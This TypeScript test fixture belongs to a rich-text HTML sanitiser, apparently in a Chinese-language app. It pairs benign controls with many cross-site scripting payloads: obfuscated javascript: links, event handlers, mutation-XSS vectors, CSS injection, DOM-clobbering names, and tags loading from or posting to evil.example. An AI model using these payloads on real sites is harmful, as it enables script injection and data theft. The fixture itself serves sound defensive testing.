/**
 * Documents that try to run `pwn()`, to leave the page, to load from elsewhere or to cover it, and
 * beside each kind documents that do the same honestly. `REL` stands for the `rel` of a link.
 */
export interface Attack {
  kind: string;
  hostile: readonly string[];
  benign: readonly string[];
}

const REL = ' rel="noopener noreferrer"';

const links: Attack = {
  kind: 'addresses of links',
  hostile: [
    'javascript:pwn()',
    'JaVaScRiPt:pwn()',
    ' javascript:pwn()',
    'java\tscript:pwn()',
    'java\nscript:pwn()',
    'java\rscript:pwn()',
    '\u0001javascript:pwn()',
    '\u00a0javascript:pwn()',
    '\u3000javascript:pwn()',
    '&#106;avascript:pwn()',
    '&#x6a;avascript:pwn()',
    '&#0000106avascript:pwn()',
    'javascript&colon;pwn()',
    'java&Tab;script:pwn()',
    'java&NewLine;script:pwn()',
    'javascript&#58;pwn()',
    'javascript:/*--></title></style></textarea></script><svg/onload=pwn()>*/',
    'javascript://%0apwn()',
    'javascript://example.com/%0d%0apwn()',
    'vbscript:pwn()',
    'livescript:pwn()',
    'mocha:pwn()',
    'data:text/html,<script>pwn()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=pwn()>',
    'blob:https://example.com/1',
    'filesystem:https://example.com/1',
    'file:///etc/passwd',
    'about:blank',
    'view-source:javascript:pwn()',
    'feed:javascript:pwn()',
    'jar:javascript:pwn()',
    'ms-word:ofe|u|https://evil.example/a.docm',
    'intent://evil#Intent;end',
    '//evil.example/steal',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    'http:\\\\evil.example',
    'https:evil.example',
    'ftp://evil.example/a',
    'ws://evil.example',
    'chrome://settings',
    'x-javascript:pwn()',
  ].map((address) => `<p><a href="${address}">资料</a></p>`),
  benign: [
    'https://www.example.com/report?id=1&amp;page=2#top',
    'http://example.com',
    'HTTPS://EXAMPLE.COM/',
    'https://例子.中国/路径',
    'https://example.com/javascript:pwn()',
    'mailto:hr@example.com',
    'mailto:hr@example.com?subject=%E6%8A%A5%E5%91%8A',
    'tel:+86-21-5555-0100',
    '/files/authorisation.pdf',
    '/f-order/orderDetails?orderId=1',
    '/',
    'https://example.com/a(b)c',
    'https://user@example.com:8443/x',
  ].map((address) => `<p><a href="${address}"${REL}>资料</a></p>`),
};

const pictures: Attack = {
  kind: 'addresses of pictures',
  hostile: [
    'javascript:pwn()',
    'x" onerror="pwn()',
    'data:text/html,<script>pwn()</script>',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+',
    'data:image/png;base64,iVBORw0KGgo=',
    'blob:https://example.com/1',
    'file:///C:/Users/me/AppData/clip_image001.png',
    '//evil.example/pixel.gif',
    '/\\evil.example/pixel.gif',
    '\\\\evil.example\\share\\a.png',
    'cid:image001.png@01D9',
    'ftp://evil.example/a.png',
    'vbscript:pwn()',
    'about:blank',
    'livescript:[code]',
  ].map((address) => `<p><img src="${address}" alt="图"></p>`),
  benign: [
    '<p><img src="https://example.com/seal.png" alt="公章"></p>',
    '<p><img src="/files/photo.jpg" alt="证件照" width="320"></p>',
    '<p><img src="/files/photo.jpg" alt="" style="width: 50%"></p>',
    '<p>前<img src="/a.png" alt="a &amp; b" width="100" height="80">后</p>',
  ],
};

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'onbeforeinput',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onscrollsnapchange',
  'onwheel',
  'oncopy',
  'onpaste',
  'ondragstart',
  'ontoggle',
  'onbegin',
  'ONERROR',
];

const handlers: Attack = {
  kind: 'event handlers',
  hostile: [
    ...HANDLERS.map((name) => `<p ${name}="pwn()" tabindex="0">候选人</p>`),
    ...HANDLERS.map((name) => `<img src=x ${name}=pwn() alt="图">`),
    '<p/onclick=pwn()>候选人</p>',
    '<p\nonclick\n=\npwn()>候选人</p>',
    '<p onclick\u0000="pwn()">候选人</p>',
    '<p "onclick="pwn()">候选人</p>',
    "<img src='x'onerror='pwn()'>",
    '<img src=`x` onerror=`pwn()`>',
    '<img/src/onerror=pwn()>',
    '<img """><script>pwn()</script>">',
    '<IMG SRC=x OnErRoR="pwn()">',
    '<table background="javascript:pwn()"><tr><td onmouseover=pwn()>甲</td></tr></table>',
    '<a href="https://example.com" onclick="pwn()">资料</a>',
    '<span data-merge-field="name" onclick="pwn()">姓名</span>',
  ],
  benign: [
    '<p>onclick="pwn()" 只是文字</p>',
    '<p>请勿填写 &lt;img src=x onerror=pwn()&gt;</p>',
    '<p><span data-merge-field="candidateName">候选人姓名</span></p>',
  ],
};

const elements: Attack = {
  kind: 'elements that run, load or collect',
  hostile: [
    '<script>pwn()</script>',
    '<SCRIPT>pwn()</SCRIPT>',
    '<script src=//evil.example/a.js></script>',
    '<script/src="//evil.example/a.js"></script>',
    '<scr<script>ipt>pwn()</scr</script>ipt>',
    '<script type=module>import("//evil.example")</script>',
    '<script type="importmap">{}</script>',
    '<iframe src="javascript:pwn()"></iframe>',
    '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
    '<iframe src="file:///etc/passwd"></iframe>',
    '<frameset><frame src="javascript:pwn()"></frameset>',
    '<object data="javascript:pwn()"></object>',
    '<object data="data:text/html,<script>pwn()</script>"></object>',
    '<embed src="javascript:pwn()">',
    '<applet code="evil.class"></applet>',
    '<portal src="//evil.example"></portal>',
    '<fencedframe src="//evil.example"></fencedframe>',
    '<base href="//evil.example/"><p>正文</p>',
    '<base target="_self"><p>正文</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:pwn()">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<meta http-equiv="set-cookie" content="token=1">',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<link rel="import" href="//evil.example">',
    '<link rel="prefetch" href="//evil.example">',
    '<link rel="preload" as="image" href="//evil.example/a.png">',
    '<form action="//evil.example"><input name="password" autofocus onfocus=pwn()></form>',
    '<form><button formaction="javascript:pwn()">提交</button></form>',
    '<input type="image" src="//evil.example/a.png" onerror="pwn()">',
    '<input autofocus onfocus=pwn()>',
    '<select autofocus onfocus=pwn()><option>甲</option></select>',
    '<textarea autofocus onfocus=pwn()>甲</textarea>',
    '<keygen autofocus onfocus=pwn()>',
    '<isindex action="javascript:pwn()" type="image">',
    '<video src=x onerror=pwn()></video>',
    '<video><source onerror="pwn()"></video>',
    '<audio src=x onerror=pwn()></audio>',
    '<video poster="//evil.example/a.png"></video>',
    '<picture><source srcset="//evil.example/a.png"><img src="x" onerror=pwn()></picture>',
    '<img srcset="//evil.example/a.png 1x" src="/a.png">',
    '<img src="/a.png" lowsrc="javascript:pwn()" dynsrc="javascript:pwn()">',
    '<details open ontoggle=pwn()>甲</details>',
    '<dialog open onclose=pwn()>甲</dialog>',
    '<marquee onstart=pwn()>甲</marquee>',
    '<bgsound src="javascript:pwn()">',
    '<layer src="//evil.example"></layer>',
    '<body onload=pwn()><p>正文</p></body>',
    '<html onmouseover=pwn()><p>正文</p></html>',
    '<custom-element onclick=pwn() is="x-evil">甲</custom-element>',
    '<p is="x-evil">甲</p>',
    '<slot name="x" onslotchange=pwn()>甲</slot>',
    '<div popover id="x" onbeforetoggle=pwn()>甲</div><button popovertarget="x">乙</button>',
    '<a href="https://example.com" ping="//evil.example">资料</a>',
    '<a href="https://example.com" download="evil.exe">资料</a>',
    '<a href="https://example.com" target="_top">资料</a>',
    '<a href="https://example.com" target="session">资料</a>',
    '<a href="https://example.com" rel="opener" target="_blank">资料</a>',
    '<template><img src=x onerror=pwn()></template>',
    '<template shadowrootmode="open"><img src=x onerror=pwn()></template>',
    '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
    '<noembed><img src=x onerror=pwn()></noembed>',
    '<noframes><img src=x onerror=pwn()></noframes>',
    '<xmp><img src=x onerror=pwn()></xmp>',
    '<plaintext><img src=x onerror=pwn()>',
    '<listing>&lt;img src=x onerror=pwn()&gt;</listing>',
  ],
  benign: [
    '<p>正文</p>',
    '<h1>一</h1><h2>二</h2><h3>三</h3><h4>四</h4><h5>五</h5><h6>六</h6>',
    '<ul><li>甲<ul><li>乙</li></ul></li><li>丙</li></ul>',
    '<ol start="3"><li>甲</li><li>乙</li></ol>',
    '<blockquote><p>引文</p></blockquote>',
    '<p>上</p><hr><p>下</p>',
    '<p>上<br>下</p>',
    '<p><strong>粗</strong><em>斜</em><u>下划线</u><s>删除</s></p>',
    '<p><b>粗</b><i>斜</i><del>删</del><ins>增</ins><strike>删</strike></p>',
    '<p>m<sup>2</sup>，H<sub>2</sub>O</p>',
    '<div>一行</div><div>二行</div>',
    '<section><h2>概述</h2><p>正文</p></section>',
    '<pre>逐字  保留</pre>',
    '<table><tbody><tr><th colspan="2">项目</th></tr><tr><td rowspan="2">甲</td><td>乙</td></tr></tbody></table>',
    '<table><caption>表一</caption><thead><tr><th>甲</th></tr></thead><tbody><tr><td>乙</td></tr></tbody><tfoot><tr><td>丙</td></tr></tfoot></table>',
    '<table width="100%"><tbody><tr><td width="120">甲</td></tr></tbody></table>',
    `<p><a href="https://example.com" target="_blank"${REL}>资料</a></p>`,
    '<p><a>没有地址</a></p>',
    '<p></p>',
    '纯文本',
    '第一段\n\n第二段',
    'AT&amp;T',
    '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>',
    '<p>脚本 script、样式 style、javascript: 都是普通的词</p>',
    '<p>😀 𠮷野家 ﷽ שלום</p>',
  ],
};

const foreign: Attack = {
  kind: 'foreign content and mutations',
  hostile: [
    '<svg onload=pwn()>',
    '<svg/onload=pwn()>',
    '<svg><script>pwn()</script></svg>',
    '<svg><script href="data:text/javascript,pwn()"/></svg>',
    '<svg><a xlink:href="javascript:pwn()"><text y=20>甲</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:pwn() /><text>甲</text></a></svg>',
    '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
    '<svg><set attributeName=onmouseover to=pwn()></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x"></svg>',
    '<svg><image href="//evil.example/a.png"/></svg>',
    '<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>',
    '<svg><style><img src=x onerror=pwn()></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
    '<svg><desc><noscript></desc><img src=x onerror=pwn()>',
    '<math href="javascript:pwn()">甲</math>',
    '<math><mi xlink:href="data:x,<script>pwn()</script>">甲</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=pwn()>"></style></h1>',
    '<math><annotation-xml encoding="text/html"><p><style><a title="</style><img src=x onerror=pwn()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
    '<p><svg><title><style><!--</style><img src=x onerror=pwn()>--></title></svg></p>',
    '<noscript><style></noscript><img src=x onerror=pwn()></style>',
    '<textarea></textarea><img src=x onerror=pwn()>',
    '<title></title><img src=x onerror=pwn()>',
    '<style></style><img src=x onerror=pwn()>',
    '<!--><img src=x onerror=pwn()>-->',
    '<!---><img src=x onerror=pwn()>-->',
    '<!--x--!><img src=x onerror=pwn()>-->',
    '<!--<img src="--><img src=x onerror=pwn()//">',
    '<![CDATA[<img src=x onerror=pwn()>]]>',
    '<?xml version="1.0"?><img src=x onerror=pwn()>',
    '<?php echo 1 ?><img src=x onerror=pwn()>',
    '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=pwn()>">]>&x;',
    '<%<!--%><img src=x onerror=pwn()>-->',
    '</><img src=x onerror=pwn()>',
    '<//img src=x onerror=pwn()>',
    '<a<img src=x onerror=pwn()>>资料</a>',
    '<table><td><a><table></table><a></tr><a></table><b><img src=x onerror=pwn()></b>',
    '<b><p><b><p><svg onload=pwn()>',
    '<select><template><img src=x onerror=pwn()></template></select>',
    '<option><style></option></select><b><img src=x onerror=pwn()></style></option>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>',
    '<img src=x onerror=&#112;&#119;&#110;&#40;&#41;>',
    '+ADw-script+AD4-pwn()+ADw-/script+AD4-<img src=x onerror=pwn()>',
    '<ｓcript>pwn()</ｓcript><img src=x onerror=pwn()>',
    `${'<div>'.repeat(400)}<img src=x onerror=pwn()>`,
    `${'<b>'.repeat(300)}<p><img src=x onerror=pwn()>`,
  ],
  benign: [
    '<p>svg、math 与 &lt;!-- 注释 --&gt;</p>',
    `${'<div>'.repeat(60)}深层${'</div>'.repeat(60)}`,
    '<table><tbody><tr><td><table><tbody><tr><td>内层</td></tr></tbody></table></td></tr></tbody></table>',
  ],
};

const styles: Attack = {
  kind: 'styles that load, cover or run',
  hostile: [
    'background: url(//evil.example/a.png)',
    'background-image: url("javascript:pwn()")',
    'background-color: url(//evil.example)',
    'list-style-image: url(//evil.example/a.png)',
    'border-image: url(//evil.example/a.png)',
    'cursor: url(//evil.example/a.cur), auto',
    'content: url(//evil.example/a.png)',
    'mask: url(//evil.example/a.svg)',
    'filter: url(//evil.example/a.svg#x)',
    'width: expression(pwn())',
    'width: exp/**/ression(pwn())',
    'behavior: url(evil.htc)',
    '-moz-binding: url(//evil.example/a.xml#x)',
    'position: fixed; inset: 0; z-index: 9999',
    'position: absolute; top: 0; left: 0; width: 2000px; height: 2000px',
    'position: sticky; top: 0',
    'transform: scale(100)',
    'margin-top: -9999px',
    'opacity: 0',
    'display: none',
    'font-size: 999pt',
    'font-size: 0',
    'font-size: 100%',
    'font-size: calc(100vw)',
    'width: 99999px',
    'width: 100vw',
    'color: var(--mj-color-danger)',
    'color: env(safe-area-inset-top)',
    'color: red; background: url(//evil.example)',
    'color: red\\; background: url(//evil.example)',
    'c\\6flor: red',
    'color: attr(href)',
    'animation: x 1s',
    'transition: all 1s',
    '--mj-color-accent: red',
    'font: 12px url(//evil.example)',
    'all: initial',
    'color: #12345g',
    'background: -webkit-image-set("//evil.example/a.png" 1x)',
    'src: url(//evil.example/a.woff)',
    'color: red" onmouseover="pwn()',
  ].map((style) => `<p style="${style}">候选人</p>`),
  benign: [
    ...[
      'text-align: center',
      'text-align:right;',
      'text-align: justify',
      'color: #c0392b',
      'color: rgb(192, 57, 43)',
      'background-color: #fff3cd',
      'font-size: 8pt',
      'font-size: 36pt',
      'font-size: 10.5pt',
      'font-size: 16px',
      'font-weight: bold; font-style: italic',
      'text-decoration: underline line-through',
      'COLOR: RED',
    ].map((style) => `<p><span style="${style}">候选人</span></p>`),
    '<p style="text-align: center">居中</p>',
    '<table style="width: 100%"><tbody><tr><td style="background-color: #eee">甲</td></tr></tbody></table>',
  ],
};

const names: Attack = {
  kind: 'names that shadow those of the page',
  hostile: [
    '<p id="cookie">甲</p>',
    '<img name="getElementById" src="/a.png">',
    '<a id="config" href="/x">甲</a><a id="config" name="url" href="/y">乙</a>',
    '<form id="document"><input name="cookie"></form>',
    '<p class="sb-show-main">甲</p>',
    '<p role="dialog" aria-modal="true">甲</p>',
    '<p slot="header" part="x" itemprop="y">甲</p>',
    '<p contenteditable="true" spellcheck>甲</p>',
    '<p accesskey="x" draggable="true">甲</p>',
    '<p data-testid="x" data-mj-mode="dark">甲</p>',
    '<p xmlns="x" xml:base="//evil.example">甲</p>',
    '<span data-merge-field="__proto__">甲</span>',
    '<span data-merge-field="a b">甲</span>',
    '<td colspan="99999">甲</td>',
    '<table><tr><td colspan="99999" rowspan="0">甲</td></tr></table>',
    '<ol start="-1e9"><li>甲</li></ol>',
    '<img src="/a.png" width="99999px">',
  ],
  benign: ['<p><span data-merge-field="order.no">订单号</span></p>'],
};

/** Every kind of attack. */
export const ATTACKS: readonly Attack[] = [
  links,
  pictures,
  handlers,
  elements,
  foreign,
  styles,
  names,
];

/** All hostile documents. */
export const HOSTILE: readonly string[] = ATTACKS.flatMap(({ hostile }) => hostile);

/** All documents that a sanitiser leaves as they are. */
export const BENIGN: readonly string[] = ATTACKS.flatMap(({ benign }) => benign);

const TAGS =
  'a b blockquote br caption del div em h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre s section span strike strong sub sup table tbody td tfoot th thead tr u ul';
const ATTRIBUTES =
  'style href target rel src alt width height start colspan rowspan data-merge-field';

/**
 * Returns the dangers in a parsed document, none for one that is clean. It knows nothing of the
 * sanitiser: what may stay is written down again.
 */
export function dangersIn(root: ParentNode): string[] {
  return Array.from(root.querySelectorAll('*')).flatMap((element) => {
    const tag = element.nodeName.toLowerCase();
    return [
      ...(TAGS.split(' ').includes(tag) ? [] : [`<${tag}>`]),
      ...Array.from(element.attributes).flatMap(({ name, value }) =>
        // `is` cannot be removed from an element, so it is emptied.
        (name === 'is' && value === '') ||
        (ATTRIBUTES.split(' ').includes(name) && !isDangerous(name, value))
          ? []
          : [`${name}="${value}"`],
      ),
    ];
  });
}

function isDangerous(name: string, value: string) {
  if (name === 'href' || name === 'src') {
    // eslint-disable-next-line no-control-regex
    const read = value.replace(/[\u0000-\u0020\u00a0\u3000]/g, '').replaceAll('\\', '/');
    return !/^(https?:\/\/|mailto:|tel:|\/(?!\/))/i.test(read);
  }
  if (name === 'style') return /url|expression|var\(|position|\\|--|@|image|9999|vw/i.test(value);
  if (name === 'target') return value !== '_blank';
  if (name === 'rel') return !/noopener noreferrer/.test(value);
  return false;
}
